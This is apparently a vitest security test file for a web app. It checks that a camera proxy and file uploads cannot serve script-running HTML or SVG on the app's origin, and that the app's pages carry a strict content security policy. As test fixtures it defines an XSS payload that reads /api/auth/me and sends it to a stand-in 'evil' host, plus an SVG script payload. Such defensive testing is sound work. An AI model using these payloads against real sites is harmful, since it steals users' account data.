/**
 * Hostile content served on the app's origin (docs/security.md, "Hostile content"): a camera any
 * new account may add answers HTML, SVG or a stream whose parts are HTML; a member uploads an
 * SVG or an HTML document. None of it may run script as the app: the camera proxy passes only
 * JPEG, PNG and MJPEG, everything relayed or uploaded goes out sandboxed with nosniff, documents as
 * attachments, and the app itself runs only its own scripts.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { APP_CSP, UNTRUSTED_CONTENT_CSP } from '../../src/platform/http.js';
import { createTestServer, type TestServer } from '../helpers/server.js';

const SCRIPT = '<html><body><script>fetch("/api/auth/me").then(r => r.text()).then(t => new Image().src = "//evil/" + btoa(t))</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>';
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('still'), Buffer.from([0xff, 0xd9])]);

let t: TestServer;
let camera: Server;
let cameraUrl: string;
let stranger: string;
let vesselId: number;

beforeAll(async () => {
  camera = createServer((req, res) => {
    switch (req.url) {
      case '/html':
        return res.writeHead(200, { 'content-type': 'text/html' }).end(SCRIPT);
      case '/svg':
        return res.writeHead(200, { 'content-type': 'image/svg+xml' }).end(SVG);
      case '/none':
        return res.writeHead(200).end(SCRIPT);
      case '/jpeg':
        return res.writeHead(200, { 'content-type': 'image/jpeg' }).end(JPEG);
      case '/mjpeg-with-html':
        // A multipart stream whose part claims to be a document: only a sandbox keeps it inert.
        res.writeHead(200, { 'content-type': 'multipart/x-mixed-replace; boundary=part' });
        return res.end(`--part\r\nContent-Type: text/html\r\n\r\n${SCRIPT}\r\n--part--\r\n`);
      case '/multipart-without-boundary':
        return res.writeHead(200, { 'content-type': 'multipart/x-mixed-replace' }).end(SCRIPT);
      default:
        return res.writeHead(404).end();
    }
  });
  await new Promise<void>((resolve) => camera.listen(0, '127.0.0.1', resolve));
  cameraUrl = `http://127.0.0.1:${(camera.address() as AddressInfo).port}`;
  t = await createTestServer({ env: { CAMERA_ALLOW_PRIVATE: 'on' } });
  // Any new account can make a vessel and point a camera wherever it likes.
  const email = 'mallory@example.com';
  const password = 'a-long-enough-password-1';
  const created = await t.call('POST', '/api/register/createAccount', { payload: { email, password, firstName: 'Mal', lastName: 'Lory' } });
  expect(created.status, JSON.stringify(created.body)).toBe(200);
  // As if the e-mailed link had been followed (tests/modules/auth.test.ts follows it).
  await t.database.db('users').where({ email }).update({ status: 'active' });
  stranger = await t.login(email, password);
  const vessel = await t.call('POST', '/api/vessel/create', { token: stranger, payload: { name: 'Trojan' } });
  expect(vessel.status, JSON.stringify(vessel.body)).toBe(200);
  vesselId = vessel.body.data.id;
});

afterAll(async () => {
  await t?.close();
  camera?.closeAllConnections();
  await new Promise((resolve) => camera?.close(resolve));
});

const addCamera = async (path: string) => {
  const res = await t.call('POST', `/api/vessel/${vesselId}/cameras`, {
    token: stranger,
    payload: { name: path, streamUrl: `${cameraUrl}${path}`, snapshotUrl: `${cameraUrl}${path}` },
  });
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body.data.id as number;
};

const viaProxy = async (cameraId: number, what: 'snapshot' | 'stream') =>
  t.server.inject({ url: await t.link(stranger, `/api/vessel/${vesselId}/cameras/${cameraId}/${what}`) });

describe('the camera proxy', () => {
  it.each([
    ['HTML', '/html', 'text/html'],
    ['SVG', '/svg', 'image/svg+xml'],
    ['no content type', '/none', 'no content type'],
  ])('refuses a camera answering %s, for the snapshot and the stream, in the envelope', async (_what, path, named) => {
    const id = await addCamera(path);
    for (const what of ['snapshot', 'stream'] as const) {
      const res = await viaProxy(id, what);
      expect(res.statusCode).toBe(502);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(JSON.parse(res.payload)).toMatchObject({
        ok: false,
        status: 502,
        message: `The camera answered ${named}, not a JPEG or PNG image or an MJPEG stream`,
      });
      expect(res.payload).not.toContain('<script>');
    }
  });

  it('refuses a multipart answer without a boundary', async () => {
    const res = await viaProxy(await addCamera('/multipart-without-boundary'), 'stream');
    expect(res.statusCode).toBe(502);
    expect(res.payload).not.toContain('<script>');
  });

  it('relays a JPEG still sandboxed, with nosniff', async () => {
    const res = await viaProxy(await addCamera('/jpeg'), 'snapshot');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('image/jpeg');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toBe(UNTRUSTED_CONTENT_CSP);
  });

  it('relays an MJPEG stream only sandboxed, so an HTML part runs nothing', async () => {
    const res = await viaProxy(await addCamera('/mjpeg-with-html'), 'stream');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('multipart/x-mixed-replace; boundary=part');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(String(res.headers['content-security-policy']).split('; ')).toEqual(expect.arrayContaining(['sandbox', "default-src 'none'"]));
  });
});

describe('uploaded files', () => {
  const boundary = 'hostileboundary';
  const multipart = (fields: Record<string, string>, file: { name: string; type: string; data: string }) => ({
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    payload: Buffer.concat([
      ...Object.entries(fields).map(([k, v]) => Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`)),
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`),
      Buffer.from(file.data),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]),
  });

  it('serves a document that claims to be HTML as a sandboxed attachment with nosniff', async () => {
    const doc = await t.call('POST', `/api/vessel/${vesselId}/documents`, {
      token: stranger,
      ...multipart({ name: 'Invoice' }, { name: 'invoice.html', type: 'text/html', data: SCRIPT }),
    });
    expect(doc.status, JSON.stringify(doc.body)).toBe(200);
    const res = await t.server.inject({ url: await t.link(stranger, doc.body.data.url) });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/^attachment;/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['content-security-policy']).toBe(UNTRUSTED_CONTENT_CSP);
  });
});

describe("the app's own pages", () => {
  it('run only the app’s own scripts: no inline script, no plugins, no <base>, no framing', async () => {
    for (const url of ['/', '/dashboard', '/api/health/live']) {
      const res = await t.server.inject({ url });
      expect(res.headers['content-security-policy'], url).toBe(APP_CSP);
    }
    expect(APP_CSP.split('; ')).toEqual(["script-src 'self'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"]);
  });

  it('keeps the stricter policy of an error answer from the camera proxy out of the way of the envelope', async () => {
    const res = await t.call('GET', `/api/vessel/${vesselId}/cameras/999999/snapshot`, { token: stranger });
    expect(res.status).toBe(404);
    expect(res.headers['content-security-policy']).toBe(APP_CSP);
  });
});
